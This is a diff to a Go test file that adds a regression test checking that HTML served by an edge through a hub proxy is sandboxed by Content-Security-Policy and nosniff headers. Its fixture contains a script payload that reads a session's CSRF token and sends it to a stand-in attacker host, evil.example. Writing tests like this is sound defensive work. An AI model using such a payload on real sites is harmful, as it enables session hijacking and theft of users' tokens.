@@ -66,6 +66,13 @@ func startRecorder(t *testing.T, tag string) *edgeRecorder {
 		h.Set("X-Test-Path", req.URL.Path)
 		r.got = append(r.got, h)
 		r.mu.Unlock()
+		if strings.HasSuffix(req.URL.Path, "/html") {
+			// What any pod can serve through the edge API server's
+			// services/proxy subresource.
+			w.Header().Set("Content-Type", "text/html; charset=utf-8")
+			fmt.Fprint(w, `<html><script>fetch("/auth/session").then(r => r.json()).then(s => fetch("https://evil.example/?csrf=" + s.csrfToken))</script></html>`)
+			return
+		}
 		w.Header().Set("Content-Type", "application/json")
 		w.Header().Set("Set-Cookie", "__Host-wharf_session=planted; Path=/; Secure")
 		fmt.Fprintf(w, `{"edge":%q}`, r.tag)
@@ -399,6 +406,25 @@ subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: carol}]
 		}
 		if s.carolRec.count() != nc {
 			t.Errorf("carol's edge was reached from lab's path")
+		}
+	}},
+	{"H05-edge-html-on-hub-origin", "an edge (run by a workspace admin, or any pod behind its API server's services/proxy) answers text/html with a script; a member opens the egress URL in a browser (cookie session)", "the hub's answer cannot run script on the hub's origin: Content-Security-Policy sandbox (and nosniff)", func(t *testing.T, s *attackEnv) {
+		req, _ := http.NewRequest("GET", s.hub.URL+s.egressPath(s.carolID, atkEdge, "/k8s/api/v1/namespaces/default/services/web/proxy/html"), nil)
+		req.Header.Set("Authorization", "Bearer "+carolToken)
+		resp, err := s.hub.client().Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") {
+			t.Fatalf("the edge's page: %d %v", resp.StatusCode, resp.Header)
+		}
+		csp := strings.ToLower(resp.Header.Get("Content-Security-Policy"))
+		if !strings.Contains(csp, "sandbox") || strings.Contains(csp, "allow-same-origin") || strings.Contains(csp, "allow-scripts") {
+			t.Errorf("an edge's HTML is served on the hub's origin with Content-Security-Policy %q: its script runs as the hub (same-origin fetch of /auth/session, the CSRF token, then any API call with the victim's session)", csp)
+		}
+		if resp.Header.Get("X-Content-Type-Options") != "nosniff" {
+			t.Errorf("X-Content-Type-Options %q, want nosniff", resp.Header.Get("X-Content-Type-Options"))
 		}
 	}},
 	{"J01-join-token-not-in-objects", "after minting, alice (get on lab edges) reads the Edge yaml and events; the token is in none", "only its hash is stored", func(t *testing.T, s *attackEnv) {
